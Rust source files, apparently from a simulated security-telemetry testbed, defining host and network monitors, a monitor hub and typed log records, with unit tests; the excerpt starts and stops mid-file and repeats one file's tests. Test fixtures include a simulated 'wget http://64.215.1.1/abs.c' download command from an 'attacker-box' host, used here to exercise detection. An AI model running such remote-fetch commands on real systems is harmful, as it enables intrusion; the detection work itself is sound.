                            user: d.user.as_str().into(),
                            command: d.command.clone(),
                            statement: d.statement.as_str().into(),
                        }));
                    }
                }
            }
            Action::Flow(_) | Action::Http(_) => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::action::{ExecAction, FileOp, FileOpAction};
    use simnet::flow::Direction;
    use simnet::time::SimTime;
    use simnet::topology::{NcsaTopologyBuilder, Topology};

    fn ctx<'a>(topo: &'a Topology) -> EventCtx<'a> {
        EventCtx {
            time: SimTime::from_secs(1),
            direction: Direction::Internal,
            dropped: None,
            topo,
        }
    }

    fn exec_on(host: HostId) -> Action {
        Action::Exec(ExecAction {
            host,
            user: "alice".into(),
            pid: 42,
            ppid: 1,
            exe: "/usr/bin/make".into(),
            cmdline: "make -C /lib/modules/build".into(),
        })
    }

    #[test]
    fn exec_produces_process_record() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut mon = HostMonitor::new();
        let mut out = Vec::new();
        mon.observe(&ctx(&topo), &exec_on(HostId(0)), &mut out);
        assert_eq!(out.len(), 1);
        match &out[0] {
            LogRecord::Process(p) => {
                assert_eq!(p.user, "alice");
                assert_eq!(p.hostname, topo.host(HostId(0)).name);
            }
            other => panic!("unexpected record {other:?}"),
        }
    }

    #[test]
    fn disabled_agent_stops_records() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut mon = HostMonitor::new();
        mon.disable_on(HostId(0));
        let mut out = Vec::new();
        mon.observe(&ctx(&topo), &exec_on(HostId(0)), &mut out);
        assert!(out.is_empty());
        // Other hosts unaffected.
        mon.observe(&ctx(&topo), &exec_on(HostId(1)), &mut out);
        assert_eq!(out.len(), 1);
    }

    #[test]
    fn unmonitored_external_hosts_produce_nothing() {
        let mut topo = NcsaTopologyBuilder::default().build();
        let ext = topo.add_external("attacker-box", "103.102.1.1".parse().unwrap());
        let mut mon = HostMonitor::new();
        let mut out = Vec::new();
        mon.observe(&ctx(&topo), &exec_on(ext), &mut out);
        assert!(out.is_empty());
    }

    #[test]
    fn file_ops_recorded() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut mon = HostMonitor::new();
        let mut out = Vec::new();
        let a = Action::FileOp(FileOpAction {
            host: HostId(2),
            user: "postgres".into(),
            path: "/tmp/kp".into(),
            op: FileOp::Create,
            process: "postgres".into(),
        });
        mon.observe(&ctx(&topo), &a, &mut out);
        assert!(matches!(&out[0], LogRecord::File(f) if f.path == "/tmp/kp"));
        assert_eq!(mon.records_emitted(), 1);
    }
}
