//! Host-based monitor (osquery / rsyslog / auditd equivalent).
//!
//! Observes host-side actions on *monitored* hosts and emits process, file,
//! auth, audit and database-statement records. The paper's defender runs
//! osquery "at the kernel level" on production hosts; honeypot containers
//! are instrumented the same way (§IV-A: "commands issued by attackers must
//! be closely monitored by the host and network monitors").

use simnet::action::Action;
use simnet::engine::EventCtx;
use simnet::intern::{Sym, SymScope};
use simnet::topology::HostId;

use crate::monitor::Monitor;
use crate::record::{AuditRecord, AuthRecord, DbRecord, FileRecord, LogRecord, ProcessRecord};

/// The host monitor. One instance covers the whole fleet: per-host agent
/// state is immaterial to the record streams, so modelling a single
/// collector keeps the pipeline simple without changing what downstream
/// stages see.
///
/// Records are minted into the monitor's [`SymScope`] (global by default;
/// see [`HostMonitor::with_scope`] for tenant-scoped emission).
#[derive(Debug)]
pub struct HostMonitor {
    scope: SymScope,
    records_emitted: u64,
    /// Hosts whose agent has been tampered with / disabled (an attacker
    /// with local root may kill one agent; §III-B).
    disabled: Vec<HostId>,
}

impl Default for HostMonitor {
    fn default() -> Self {
        Self::with_scope(SymScope::global())
    }
}

impl HostMonitor {
    pub fn new() -> Self {
        Self::default()
    }

    /// A monitor minting record symbols into an explicit scope.
    pub fn with_scope(scope: SymScope) -> Self {
        HostMonitor {
            scope,
            records_emitted: 0,
            disabled: Vec::new(),
        }
    }

    /// Simulate an attacker disabling the agent on one host. Records from
    /// that host stop flowing — but network monitors still see its traffic.
    pub fn disable_on(&mut self, host: HostId) {
        if !self.disabled.contains(&host) {
            self.disabled.push(host);
        }
    }

    pub fn records_emitted(&self) -> u64 {
        self.records_emitted
    }

    fn covered(&self, ctx: &EventCtx<'_>, host: HostId) -> bool {
        !self.disabled.contains(&host) && ctx.topo.host(host).monitored
    }

    fn hostname(&self, ctx: &EventCtx<'_>, host: HostId) -> Sym {
        self.scope.sym(ctx.topo.host(host).name.as_str())
    }
}

impl Monitor for HostMonitor {
    fn name(&self) -> &'static str {
        "hostmon"
    }

    fn observe(&mut self, ctx: &EventCtx<'_>, action: &Action, out: &mut Vec<LogRecord>) {
        match action {
            Action::Exec(e) => {
                if self.covered(ctx, e.host) {
                    self.records_emitted += 1;
                    out.push(LogRecord::Process(ProcessRecord {
                        ts: ctx.time,
                        host: e.host,
                        hostname: self.hostname(ctx, e.host),
                        user: self.scope.sym(e.user.as_str()),
                        pid: e.pid,
                        ppid: e.ppid,
                        exe: self.scope.sym(e.exe.as_str()),
                        cmdline: self.scope.sym(e.cmdline.as_str()),
                    }));
                }
            }
            Action::FileOp(f) => {
                if self.covered(ctx, f.host) {
                    self.records_emitted += 1;
                    out.push(LogRecord::File(FileRecord {
                        ts: ctx.time,
                        host: f.host,
                        hostname: self.hostname(ctx, f.host),
                        user: self.scope.sym(f.user.as_str()),
                        path: self.scope.sym(f.path.as_str()),
                        op: f.op,
                        process: self.scope.sym(f.process.as_str()),
                    }));
                }
            }
            Action::Audit(a) => {
                if self.covered(ctx, a.host) {
                    self.records_emitted += 1;
                    out.push(LogRecord::Audit(AuditRecord {
                        ts: ctx.time,
                        host: a.host,
                        hostname: self.hostname(ctx, a.host),
                        user: self.scope.sym(a.user.as_str()),
                        syscall: self.scope.sym(a.syscall.as_str()),
                        args: self.scope.sym(a.args.as_str()),
                        exit_code: a.exit_code,
                    }));
                }
            }
            Action::SshAuth(s) => {
                // The sshd auth log on the target host.
                if !ctx.delivered() {
                    return;
                }
                if let Some(target) = s.target {
                    if self.covered(ctx, target) {
                        self.records_emitted += 1;
                        out.push(LogRecord::Auth(AuthRecord {
                            ts: ctx.time,
                            host: target,
                            hostname: self.hostname(ctx, target),
                            user: self.scope.sym(s.user.as_str()),
                            method: s.method,
                            success: s.success,
                            src_addr: Some(s.flow.src),
                        }));
                    }
                }
            }
            Action::Db(d) => {
                // Statement-level audit from the database host itself.
                if !ctx.delivered() {
                    return;
                }
                if let Some(target) = d.target {
                    if self.covered(ctx, target) {
                        self.records_emitted += 1;
                        out.push(LogRecord::Db(DbRecord {
                            ts: ctx.time,
                            uid: d.flow.id,
                            orig_h: d.flow.src,
                            resp_h: d.flow.dst,
                            host: Some(target),
                            user: self.scope.sym(d.user.as_str()),
                            command: d.command.clone(),
                            statement: self.scope.sym(d.statement.as_str()),
                        }));
                    }
                }
            }
            Action::Flow(_) | Action::Http(_) => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::action::{ExecAction, FileOp, FileOpAction};
    use simnet::flow::Direction;
    use simnet::time::SimTime;
    use simnet::topology::{NcsaTopologyBuilder, Topology};

    fn ctx<'a>(topo: &'a Topology) -> EventCtx<'a> {
        EventCtx {
            time: SimTime::from_secs(1),
            direction: Direction::Internal,
            dropped: None,
            topo,
        }
    }

    fn exec_on(host: HostId) -> Action {
        Action::Exec(ExecAction {
            host,
            user: "alice".into(),
            pid: 42,
            ppid: 1,
            exe: "/usr/bin/make".into(),
            cmdline: "make -C /lib/modules/build".into(),
        })
    }

    #[test]
    fn exec_produces_process_record() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut mon = HostMonitor::new();
        let mut out = Vec::new();
        mon.observe(&ctx(&topo), &exec_on(HostId(0)), &mut out);
        assert_eq!(out.len(), 1);
        match &out[0] {
            LogRecord::Process(p) => {
                assert_eq!(p.user, "alice");
                assert_eq!(p.hostname, topo.host(HostId(0)).name);
            }
            other => panic!("unexpected record {other:?}"),
        }
    }

    #[test]
    fn disabled_agent_stops_records() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut mon = HostMonitor::new();
        mon.disable_on(HostId(0));
        let mut out = Vec::new();
        mon.observe(&ctx(&topo), &exec_on(HostId(0)), &mut out);
        assert!(out.is_empty());
        // Other hosts unaffected.
        mon.observe(&ctx(&topo), &exec_on(HostId(1)), &mut out);
        assert_eq!(out.len(), 1);
    }

    #[test]
    fn unmonitored_external_hosts_produce_nothing() {
        let mut topo = NcsaTopologyBuilder::default().build();
        let ext = topo.add_external("attacker-box", "103.102.1.1".parse().unwrap());
        let mut mon = HostMonitor::new();
        let mut out = Vec::new();
        mon.observe(&ctx(&topo), &exec_on(ext), &mut out);
        assert!(out.is_empty());
    }

    #[test]
    fn file_ops_recorded() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut mon = HostMonitor::new();
        let mut out = Vec::new();
        let a = Action::FileOp(FileOpAction {
            host: HostId(2),
            user: "postgres".into(),
            path: "/tmp/kp".into(),
            op: FileOp::Create,
            process: "postgres".into(),
        });
        mon.observe(&ctx(&topo), &a, &mut out);
        assert!(matches!(&out[0], LogRecord::File(f) if f.path == "/tmp/kp"));
        assert_eq!(mon.records_emitted(), 1);
    }
}
