//! # telemetry — monitoring substrate
//!
//! Zeek/osquery/auditd-like monitors for the AttackTagger testbed
//! reproduction. Monitors observe the [`simnet`] action stream and emit
//! typed [`record::LogRecord`]s, which the `alertlib` crate symbolizes into
//! alerts (§II-A of the paper).
//!
//! - [`record`] — typed log records mirroring the paper's log sources.
//! - [`monitor`] — the [`monitor::Monitor`] trait.
//! - [`zeek`] — network monitor with scan / password-guessing / download
//!   notice policies.
//! - [`hostmon`] — host-based process/file/auth/audit/db monitor.
//! - [`pipeline`] — [`pipeline::MonitorHub`] fan-out and collection.
//! - [`syslog`] — textual rendering (syslog, Zeek TSV, paper snippets) and
//!   daily bucketing.

pub mod hostmon;
pub mod monitor;
pub mod pipeline;
pub mod record;
pub mod syslog;
pub mod zeek;

pub use hostmon::HostMonitor;
pub use monitor::Monitor;
pub use pipeline::MonitorHub;
pub use record::{
    AuditRecord, AuthRecord, ConnRecord, DbRecord, FileRecord, HttpRecord, LogRecord, NoticeKind,
    NoticeRecord, ProcessRecord, RecordKind, SshRecord,
};
pub use syslog::DailyLogStore;
pub use zeek::{ZeekConfig, ZeekMonitor};
