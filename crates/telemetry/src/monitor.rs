//! The monitor abstraction.
//!
//! A [`Monitor`] turns observed [`Action`]s into [`LogRecord`]s. The
//! defender capabilities of §III-B assume "an extensive set of
//! well-configured ... and well-protected monitors": one action can be
//! witnessed by several monitors, and tampering with a single monitor
//! (e.g. killing the host agent) does not blind the rest.

use simnet::action::Action;
use simnet::engine::EventCtx;

use crate::record::LogRecord;

/// A security monitor observing the action stream.
pub trait Monitor: Send {
    /// Monitor name (for provenance metadata).
    fn name(&self) -> &'static str;

    /// Observe one action, appending any produced records to `out`.
    fn observe(&mut self, ctx: &EventCtx<'_>, action: &Action, out: &mut Vec<LogRecord>);

    /// Flush any windowed state at end of run (e.g. pending scan notices).
    fn flush(&mut self, _out: &mut Vec<LogRecord>) {}
}
