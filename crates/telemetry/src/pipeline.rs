//! Monitor hub: fans each simulation action out to all registered monitors
//! and collects the produced records, preserving time order.

use simnet::action::Action;
use simnet::engine::{ActionSink, EventCtx};
use simnet::event::EventQueue;
use simnet::rng::FxHashMap;

use crate::monitor::Monitor;
use crate::record::{LogRecord, RecordKind};

/// Collects records from a set of monitors. Implements
/// [`simnet::engine::ActionSink`], so it plugs directly into the engine.
#[derive(Default)]
pub struct MonitorHub {
    monitors: Vec<Box<dyn Monitor>>,
    records: Vec<LogRecord>,
    counts: FxHashMap<RecordKind, u64>,
    /// Reused staging buffer for monitor output, so the per-action hot
    /// path does not allocate a fresh `Vec` per event.
    scratch: Vec<LogRecord>,
}

impl MonitorHub {
    pub fn new() -> Self {
        Self::default()
    }

    /// Register a monitor. Monitors observe every action in registration
    /// order.
    pub fn add_monitor(&mut self, monitor: Box<dyn Monitor>) -> &mut Self {
        self.monitors.push(monitor);
        self
    }

    /// Standard production configuration: Zeek at the border plus the host
    /// monitor fleet.
    pub fn standard() -> Self {
        let mut hub = Self::new();
        hub.add_monitor(Box::new(crate::zeek::ZeekMonitor::with_defaults()));
        hub.add_monitor(Box::new(crate::hostmon::HostMonitor::new()));
        hub
    }

    /// Build a hub around an existing monitor fleet.
    pub fn with_monitors(monitors: Vec<Box<dyn Monitor>>) -> Self {
        MonitorHub {
            monitors,
            ..Self::default()
        }
    }

    /// Take the monitor fleet out of the hub (e.g. to hand it to a
    /// pipeline builder), discarding collected records.
    pub fn into_monitors(self) -> Vec<Box<dyn Monitor>> {
        self.monitors
    }

    /// All records collected so far.
    pub fn records(&self) -> &[LogRecord] {
        &self.records
    }

    /// Take ownership of the collected records, leaving the hub empty.
    pub fn drain(&mut self) -> Vec<LogRecord> {
        std::mem::take(&mut self.records)
    }

    /// Per-stream record counts.
    pub fn count(&self, kind: RecordKind) -> u64 {
        self.counts.get(&kind).copied().unwrap_or(0)
    }

    /// Total records collected.
    pub fn total(&self) -> u64 {
        self.counts.values().sum()
    }

    /// Flush windowed monitor state.
    pub fn flush(&mut self) {
        self.scratch.clear();
        for m in &mut self.monitors {
            m.flush(&mut self.scratch);
        }
        self.commit_scratch();
    }

    /// Move staged records into the time-ordered log, updating counts.
    fn commit_scratch(&mut self) {
        for r in self.scratch.drain(..) {
            *self.counts.entry(r.kind()).or_insert(0) += 1;
            self.records.push(r);
        }
    }
}

impl ActionSink for MonitorHub {
    fn on_action(&mut self, ctx: &EventCtx<'_>, action: &Action, _queue: &mut EventQueue<Action>) {
        self.scratch.clear();
        for m in &mut self.monitors {
            m.observe(ctx, action, &mut self.scratch);
        }
        self.commit_scratch();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::engine::Engine;
    use simnet::flow::{Flow, FlowId};
    use simnet::time::SimTime;
    use simnet::topology::NcsaTopologyBuilder;

    #[test]
    fn standard_hub_collects_conn_records() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        for i in 0..5u64 {
            engine.schedule(
                SimTime::from_secs(i),
                Action::Flow(Flow::probe(
                    FlowId(i),
                    SimTime::from_secs(i),
                    "103.102.1.1".parse().unwrap(),
                    format!("141.142.2.{}", i + 1).parse().unwrap(),
                    22,
                )),
            );
        }
        let mut hub = MonitorHub::standard();
        engine.run(&mut [&mut hub]);
        assert_eq!(hub.count(RecordKind::Conn), 5);
        assert_eq!(hub.total(), 5);
        let drained = hub.drain();
        assert_eq!(drained.len(), 5);
        assert!(hub.records().is_empty());
    }

    #[test]
    fn monitor_fleet_round_trips_through_hub() {
        let hub = MonitorHub::standard();
        let monitors = hub.into_monitors();
        assert_eq!(monitors.len(), 2);
        let hub = MonitorHub::with_monitors(monitors);
        assert_eq!(hub.total(), 0);
        assert!(hub.records().is_empty());
    }

    #[test]
    fn records_are_time_ordered() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        for i in (0..20u64).rev() {
            engine.schedule(
                SimTime::from_secs(i),
                Action::Flow(Flow::probe(
                    FlowId(i),
                    SimTime::from_secs(i),
                    "9.9.9.9".parse().unwrap(),
                    "141.142.2.1".parse().unwrap(),
                    80,
                )),
            );
        }
        let mut hub = MonitorHub::standard();
        engine.run(&mut [&mut hub]);
        let times: Vec<_> = hub.records().iter().map(|r| r.ts()).collect();
        let mut sorted = times.clone();
        sorted.sort();
        assert_eq!(times, sorted);
    }
}
