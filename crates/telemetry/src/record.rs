//! Typed log records.
//!
//! The paper's pipeline consumes "raw logs of both legitimate user
//! activities and attack activities": network flows from a Zeek cluster,
//! system logs from rsyslog/osquery/ossec, and audit logs from auditd
//! (§II-A). Each record type here mirrors one of those sources; the
//! [`LogRecord`] enum is the unit that travels down the alert pipeline.

use std::fmt;
use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};
use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
use simnet::intern::{Sym, SymScope};
use simnet::time::{SimDuration, SimTime};
use simnet::topology::HostId;

/// Zeek `conn.log` entry.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ConnRecord {
    pub ts: SimTime,
    pub uid: FlowId,
    pub orig_h: Ipv4Addr,
    pub orig_p: u16,
    pub resp_h: Ipv4Addr,
    pub resp_p: u16,
    pub proto: Proto,
    pub service: Service,
    pub duration: SimDuration,
    pub orig_bytes: u64,
    pub resp_bytes: u64,
    pub conn_state: ConnState,
    pub direction: Direction,
}

/// Zeek `http.log` entry.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct HttpRecord {
    pub ts: SimTime,
    pub uid: FlowId,
    pub orig_h: Ipv4Addr,
    pub resp_h: Ipv4Addr,
    pub method: Sym,
    pub host: Sym,
    pub uri: Sym,
    pub status: u16,
    pub mime: Sym,
    pub user_agent: Sym,
}

/// Zeek `ssh.log` entry.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SshRecord {
    pub ts: SimTime,
    pub uid: FlowId,
    pub orig_h: Ipv4Addr,
    pub resp_h: Ipv4Addr,
    pub user: Sym,
    pub method: simnet::action::AuthMethod,
    pub success: bool,
    pub client_banner: Sym,
    pub direction: Direction,
}

/// Built-in Zeek notice policies we model.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum NoticeKind {
    /// One source probing many distinct destinations (`Scan::Address_Scan`).
    AddressScan,
    /// One source probing many ports on few hosts (`Scan::Port_Scan`).
    PortScan,
    /// Repeated SSH auth failures (`SSH::Password_Guessing`).
    PasswordGuessing,
    /// Download of an executable from a bare-IP HTTP host.
    ExecutableFromRawIp,
    /// Site-specific policy, by name (the paper: "new alerts ... being
    /// improved and incorporated into Zeek policies").
    Custom(Sym),
}

impl fmt::Display for NoticeKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NoticeKind::AddressScan => write!(f, "Scan::Address_Scan"),
            NoticeKind::PortScan => write!(f, "Scan::Port_Scan"),
            NoticeKind::PasswordGuessing => write!(f, "SSH::Password_Guessing"),
            NoticeKind::ExecutableFromRawIp => write!(f, "HTTP::Executable_From_Raw_IP"),
            NoticeKind::Custom(name) => write!(f, "Site::{name}"),
        }
    }
}

/// Zeek `notice.log` entry. The paper's 25 M alert corpus is "collected in
/// Zeek notice logs over 24 years".
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct NoticeRecord {
    pub ts: SimTime,
    pub note: NoticeKind,
    pub msg: Sym,
    pub src: Ipv4Addr,
    pub dst: Option<Ipv4Addr>,
    /// Sub-message / additional context.
    pub sub: Sym,
}

/// osquery-like process execution event.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ProcessRecord {
    pub ts: SimTime,
    pub host: HostId,
    pub hostname: Sym,
    pub user: Sym,
    pub pid: u32,
    pub ppid: u32,
    pub exe: Sym,
    pub cmdline: Sym,
}

/// osquery/ossec-like file integrity event.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FileRecord {
    pub ts: SimTime,
    pub host: HostId,
    pub hostname: Sym,
    pub user: Sym,
    pub path: Sym,
    pub op: simnet::action::FileOp,
    pub process: Sym,
}

/// Host authentication event (sshd via rsyslog).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AuthRecord {
    pub ts: SimTime,
    pub host: HostId,
    pub hostname: Sym,
    pub user: Sym,
    pub method: simnet::action::AuthMethod,
    pub success: bool,
    pub src_addr: Option<Ipv4Addr>,
}

/// auditd syscall record.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AuditRecord {
    pub ts: SimTime,
    pub host: HostId,
    pub hostname: Sym,
    pub user: Sym,
    pub syscall: Sym,
    pub args: Sym,
    pub exit_code: i32,
}

/// Database statement audit record (the honeypot PostgreSQL instance logs
/// every statement, per §IV-A "commands issued by attackers must be closely
/// monitored").
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DbRecord {
    pub ts: SimTime,
    pub uid: FlowId,
    pub orig_h: Ipv4Addr,
    pub resp_h: Ipv4Addr,
    pub host: Option<HostId>,
    pub user: Sym,
    pub command: simnet::action::DbCommandKind,
    pub statement: Sym,
}

/// Which log stream a record belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum RecordKind {
    Conn,
    Http,
    Ssh,
    Notice,
    Process,
    File,
    Auth,
    Audit,
    Db,
}

impl RecordKind {
    /// Log-file stem, Zeek-style (`conn`, `http`, ...).
    pub fn stem(self) -> &'static str {
        match self {
            RecordKind::Conn => "conn",
            RecordKind::Http => "http",
            RecordKind::Ssh => "ssh",
            RecordKind::Notice => "notice",
            RecordKind::Process => "process",
            RecordKind::File => "file",
            RecordKind::Auth => "auth",
            RecordKind::Audit => "audit",
            RecordKind::Db => "db",
        }
    }
}

/// Any log record flowing through the pipeline.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum LogRecord {
    Conn(ConnRecord),
    Http(HttpRecord),
    Ssh(SshRecord),
    Notice(NoticeRecord),
    Process(ProcessRecord),
    File(FileRecord),
    Auth(AuthRecord),
    Audit(AuditRecord),
    Db(DbRecord),
}

impl LogRecord {
    /// Record timestamp.
    pub fn ts(&self) -> SimTime {
        match self {
            LogRecord::Conn(r) => r.ts,
            LogRecord::Http(r) => r.ts,
            LogRecord::Ssh(r) => r.ts,
            LogRecord::Notice(r) => r.ts,
            LogRecord::Process(r) => r.ts,
            LogRecord::File(r) => r.ts,
            LogRecord::Auth(r) => r.ts,
            LogRecord::Audit(r) => r.ts,
            LogRecord::Db(r) => r.ts,
        }
    }

    /// Overwrite the record timestamp (clock-skew / jitter fault models
    /// rewrite observation times without touching any other field).
    pub fn set_ts(&mut self, ts: SimTime) {
        match self {
            LogRecord::Conn(r) => r.ts = ts,
            LogRecord::Http(r) => r.ts = ts,
            LogRecord::Ssh(r) => r.ts = ts,
            LogRecord::Notice(r) => r.ts = ts,
            LogRecord::Process(r) => r.ts = ts,
            LogRecord::File(r) => r.ts = ts,
            LogRecord::Auth(r) => r.ts = ts,
            LogRecord::Audit(r) => r.ts = ts,
            LogRecord::Db(r) => r.ts = ts,
        }
    }

    /// The stream this record belongs to.
    pub fn kind(&self) -> RecordKind {
        match self {
            LogRecord::Conn(_) => RecordKind::Conn,
            LogRecord::Http(_) => RecordKind::Http,
            LogRecord::Ssh(_) => RecordKind::Ssh,
            LogRecord::Notice(_) => RecordKind::Notice,
            LogRecord::Process(_) => RecordKind::Process,
            LogRecord::File(_) => RecordKind::File,
            LogRecord::Auth(_) => RecordKind::Auth,
            LogRecord::Audit(_) => RecordKind::Audit,
            LogRecord::Db(_) => RecordKind::Db,
        }
    }

    /// Source (originating) network address, when the record has one.
    pub fn src_addr(&self) -> Option<Ipv4Addr> {
        match self {
            LogRecord::Conn(r) => Some(r.orig_h),
            LogRecord::Http(r) => Some(r.orig_h),
            LogRecord::Ssh(r) => Some(r.orig_h),
            LogRecord::Notice(r) => Some(r.src),
            LogRecord::Auth(r) => r.src_addr,
            LogRecord::Db(r) => Some(r.orig_h),
            LogRecord::Process(_) | LogRecord::File(_) | LogRecord::Audit(_) => None,
        }
    }

    /// Destination network address, when the record has one.
    pub fn dst_addr(&self) -> Option<Ipv4Addr> {
        match self {
            LogRecord::Conn(r) => Some(r.resp_h),
            LogRecord::Http(r) => Some(r.resp_h),
            LogRecord::Ssh(r) => Some(r.resp_h),
            LogRecord::Notice(r) => r.dst,
            LogRecord::Db(r) => Some(r.resp_h),
            _ => None,
        }
    }

    /// The host the record was produced on, for host-based records.
    pub fn host(&self) -> Option<HostId> {
        match self {
            LogRecord::Process(r) => Some(r.host),
            LogRecord::File(r) => Some(r.host),
            LogRecord::Auth(r) => Some(r.host),
            LogRecord::Audit(r) => Some(r.host),
            LogRecord::Db(r) => r.host,
            _ => None,
        }
    }

    /// The user account associated with the record, if any. This is the key
    /// the threat model (§III-B) groups attacks by. Resolves against the
    /// global scope; tenant-scoped records use [`LogRecord::user_in`].
    pub fn user(&self) -> Option<&'static str> {
        self.user_sym().map(Sym::as_str)
    }

    /// [`LogRecord::user`] resolved against an explicit scope.
    pub fn user_in<'a>(&self, scope: &'a SymScope) -> Option<&'a str> {
        self.user_sym().map(|s| scope.resolve(s))
    }

    /// Re-mint every interned field from `from`'s symbol universe into
    /// `to`'s, leaving all scalar fields untouched. This is the service
    /// ingest boundary: records arrive minted in the producer's scope
    /// (typically global) and must live in the tenant's scope so that
    /// evicting the tenant frees their strings. Interning is
    /// deterministic, so rescoping the same record sequence into a fresh
    /// scope always assigns the same ids — byte-identical detections.
    pub fn rescope(&self, from: &SymScope, to: &SymScope) -> LogRecord {
        if from.ptr_eq(to) {
            return self.clone();
        }
        let m = |s: Sym| to.sym(from.resolve(s));
        match self {
            LogRecord::Conn(r) => LogRecord::Conn(r.clone()),
            LogRecord::Http(r) => LogRecord::Http(HttpRecord {
                method: m(r.method),
                host: m(r.host),
                uri: m(r.uri),
                mime: m(r.mime),
                user_agent: m(r.user_agent),
                ..r.clone()
            }),
            LogRecord::Ssh(r) => LogRecord::Ssh(SshRecord {
                user: m(r.user),
                client_banner: m(r.client_banner),
                ..r.clone()
            }),
            LogRecord::Notice(r) => LogRecord::Notice(NoticeRecord {
                note: match &r.note {
                    NoticeKind::Custom(sym) => NoticeKind::Custom(m(*sym)),
                    other => other.clone(),
                },
                msg: m(r.msg),
                sub: m(r.sub),
                ..r.clone()
            }),
            LogRecord::Process(r) => LogRecord::Process(ProcessRecord {
                hostname: m(r.hostname),
                user: m(r.user),
                exe: m(r.exe),
                cmdline: m(r.cmdline),
                ..r.clone()
            }),
            LogRecord::File(r) => LogRecord::File(FileRecord {
                hostname: m(r.hostname),
                user: m(r.user),
                path: m(r.path),
                process: m(r.process),
                ..r.clone()
            }),
            LogRecord::Auth(r) => LogRecord::Auth(AuthRecord {
                hostname: m(r.hostname),
                user: m(r.user),
                ..r.clone()
            }),
            LogRecord::Audit(r) => LogRecord::Audit(AuditRecord {
                hostname: m(r.hostname),
                user: m(r.user),
                syscall: m(r.syscall),
                args: m(r.args),
                ..r.clone()
            }),
            LogRecord::Db(r) => LogRecord::Db(DbRecord {
                user: m(r.user),
                statement: m(r.statement),
                ..r.clone()
            }),
        }
    }

    /// The user account as an interned symbol (allocation- and
    /// resolution-free; the key generators and detectors use).
    pub fn user_sym(&self) -> Option<Sym> {
        match self {
            LogRecord::Ssh(r) => Some(r.user),
            LogRecord::Process(r) => Some(r.user),
            LogRecord::File(r) => Some(r.user),
            LogRecord::Auth(r) => Some(r.user),
            LogRecord::Audit(r) => Some(r.user),
            LogRecord::Db(r) => Some(r.user),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::flow::FlowId;

    fn conn() -> LogRecord {
        LogRecord::Conn(ConnRecord {
            ts: SimTime::from_secs(10),
            uid: FlowId(1),
            orig_h: "103.102.1.1".parse().unwrap(),
            orig_p: 40_000,
            resp_h: "141.142.2.1".parse().unwrap(),
            resp_p: 22,
            proto: Proto::Tcp,
            service: Service::Ssh,
            duration: SimDuration::ZERO,
            orig_bytes: 0,
            resp_bytes: 0,
            conn_state: ConnState::S0,
            direction: Direction::Inbound,
        })
    }

    #[test]
    fn accessors() {
        let r = conn();
        assert_eq!(r.ts(), SimTime::from_secs(10));
        assert_eq!(r.kind(), RecordKind::Conn);
        assert_eq!(r.src_addr(), Some("103.102.1.1".parse().unwrap()));
        assert_eq!(r.dst_addr(), Some("141.142.2.1".parse().unwrap()));
        assert!(r.host().is_none());
        assert!(r.user().is_none());
    }

    #[test]
    fn host_record_user_extraction() {
        let r = LogRecord::Process(ProcessRecord {
            ts: SimTime::from_secs(1),
            host: HostId(2),
            hostname: "cn01".into(),
            user: "alice".into(),
            pid: 100,
            ppid: 1,
            exe: "/usr/bin/wget".into(),
            cmdline: "wget http://64.215.1.1/abs.c".into(),
        });
        assert_eq!(r.user(), Some("alice"));
        assert_eq!(r.host(), Some(HostId(2)));
        assert_eq!(r.kind().stem(), "process");
    }

    #[test]
    fn rescope_remints_every_interned_field() {
        let scope = SymScope::fresh();
        let r = LogRecord::Process(ProcessRecord {
            ts: SimTime::from_secs(1),
            host: HostId(2),
            hostname: "cn01".into(),
            user: "alice".into(),
            pid: 100,
            ppid: 1,
            exe: "/usr/bin/wget".into(),
            cmdline: "wget http://64.215.1.1/abs.c".into(),
        });
        let scoped = r.rescope(&SymScope::global(), &scope);
        assert_eq!(scoped.user_in(&scope), Some("alice"));
        match (&r, &scoped) {
            (LogRecord::Process(orig), LogRecord::Process(s)) => {
                assert_eq!(scope.resolve(s.cmdline), "wget http://64.215.1.1/abs.c");
                assert_eq!(scope.resolve(s.hostname), "cn01");
                assert_eq!(scope.resolve(s.exe), "/usr/bin/wget");
                // Scalars untouched.
                assert_eq!(s.ts, orig.ts);
                assert_eq!(s.host, orig.host);
                assert_eq!(s.pid, orig.pid);
            }
            _ => unreachable!(),
        }
        // Rescoping into the same scope is the identity.
        assert_eq!(r.rescope(&SymScope::global(), &SymScope::global()), r);
        // Custom notice symbols are remapped too.
        let n = LogRecord::Notice(NoticeRecord {
            ts: SimTime::from_secs(1),
            note: NoticeKind::Custom("alert_custom".into()),
            msg: "msg".into(),
            src: "1.2.3.4".parse().unwrap(),
            dst: None,
            sub: Sym::EMPTY,
        });
        match n.rescope(&SymScope::global(), &scope) {
            LogRecord::Notice(sn) => match sn.note {
                NoticeKind::Custom(sym) => assert_eq!(scope.resolve(sym), "alert_custom"),
                other => panic!("wrong kind: {other}"),
            },
